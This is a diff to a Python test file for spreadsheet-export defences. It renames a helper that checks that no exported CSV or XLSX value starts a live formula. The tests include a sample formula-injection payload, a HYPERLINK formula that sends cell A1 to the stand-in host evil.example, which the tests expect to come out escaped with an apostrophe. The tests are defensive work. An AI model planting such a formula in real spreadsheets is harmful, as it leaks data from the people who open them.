@@ -58,7 +58,7 @@ def _texts():
     }
 
 
-def _assert_no_cell_starts_a_formula(cells):
+def _assert_no_value_starts_a_formula(cells):
     cells = [cell for cell in cells if isinstance(cell, str)]
     assert cells
     for cell in cells:
@@ -76,7 +76,7 @@ def test_a_formula_cell_gets_an_apostrophe_and_loses_it_again():
 def test_the_public_csv_export_has_no_formula(client, hostile):
     body = client.get("/compare/b2b-vs-b2c/export.csv").content.decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(body, newline="")))
-    _assert_no_cell_starts_a_formula([cell for row in rows for cell in row])
+    _assert_no_value_starts_a_formula([cell for row in rows for cell in row])
     titles = [row[0] for row in rows[1:]]
     assert titles == ["'" + payload for payload in [*FORMULAE, QUOTED]]
 
@@ -84,7 +84,7 @@ def test_the_public_csv_export_has_no_formula(client, hostile):
 def test_the_admin_csv_export_has_no_formula(editor_client, hostile):
     body = export(editor_client, "csv").decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(body, newline="")))
-    _assert_no_cell_starts_a_formula([cell for row in rows[1:] for cell in row])
+    _assert_no_value_starts_a_formula([cell for row in rows[1:] for cell in row])
     assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in rows[1]
 
 
@@ -94,7 +94,7 @@ def test_the_admin_xlsx_export_has_no_live_formula(editor_client, hostile):
     assert [cell for cell in cells if cell.data_type == "f"] == []
     values = [cell.value for cell in cells]
     assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in values
-    _assert_no_cell_starts_a_formula(values)
+    _assert_no_value_starts_a_formula(values)
 
 
 def test_the_admin_json_export_keeps_the_text_as_it_is(editor_client, hostile):
